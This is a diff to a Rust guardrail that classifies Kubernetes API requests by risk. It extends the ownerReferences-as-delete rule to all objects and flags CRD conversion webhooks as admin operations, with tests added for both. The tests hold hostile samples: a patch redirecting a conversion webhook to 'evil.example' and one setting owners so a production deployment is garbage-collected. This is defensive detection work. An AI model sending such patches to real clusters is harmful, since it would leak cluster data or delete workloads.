@@ -223,13 +223,11 @@ fn secret_write_risk(info: &RequestInfo, body: Option<&[u8]>) -> Option<&'static
 /// Classifies a request. `body` is the request body of a create, update or patch (JSON).
 pub fn classify(info: &RequestInfo, query: &str, body: Option<&[u8]>) -> Command {
     let mut keys = keys(info);
-    // Setting owners on a namespace, node or CRD hands it to the garbage collector, which
-    // deletes it when the owner is gone (or never existed): it counts as the delete, so
-    // the guardrails on deleting them hold it too.
-    if matches!(
-        info.resource.as_str(),
-        "namespaces" | "nodes" | "customresourcedefinitions"
-    ) && matches!(info.verb.as_str(), "update" | "patch" | "create")
+    // Setting owners on an object hands it to the garbage collector, which deletes it when
+    // the owner is gone (or never existed): it counts as the delete, so the guardrails on
+    // deleting it hold it too.
+    if info.resource_request
+        && matches!(info.verb.as_str(), "update" | "patch" | "create")
         // (`/status` and `/finalize` keep what a body sets in metadata too.)
         && body.is_some_and(|b| body_value(b).is_none_or(|v| has_key(&v, "ownerReferences")))
     {
@@ -285,6 +283,12 @@ pub fn classify(info: &RequestInfo, query: &str, body: Option<&[u8]>) -> Command
     {
         // Minting tokens (also as a Secret of type service-account-token), approving
         // certificates and changing admission webhooks reach around every other control.
+        OperationClass::Admin
+    } else if info.group == "apiextensions.k8s.io"
+        && body.is_some_and(|b| body_value(b).is_none_or(|v| has_key(&v, "webhook")))
+    {
+        // A conversion webhook receives every object of the resource, and rewrites them.
+        keys.insert("a conversion webhook".into());
         OperationClass::Admin
     } else if info.group == "apiextensions.k8s.io" {
         OperationClass::Ddl
@@ -604,6 +608,19 @@ mod tests {
         ] {
             assert_eq!(class("PATCH", path, body).0, want, "{path} {body}");
         }
+        // Owners on any object: the garbage collector would delete it.
+        let (_, keys) = class(
+            "PATCH",
+            "/apis/apps/v1/namespaces/prod/deployments/db",
+            r#"{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"x","uid":"3f1c1f9e-0000-4000-8000-000000000000"}]}}"#,
+        );
+        assert!(keys.contains("delete deployments.apps"), "{keys:?}");
+        let (c, _) = class(
+            "PATCH",
+            "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/x.example.com",
+            r#"{"spec":{"conversion":{"strategy":"Webhook","webhook":{"clientConfig":{"url":"https://evil.example"}}}}}"#,
+        );
+        assert_eq!(c, OperationClass::Admin);
         // Owners on a namespace: the garbage collector would delete it.
         let (_, keys) = class(
             "PATCH",
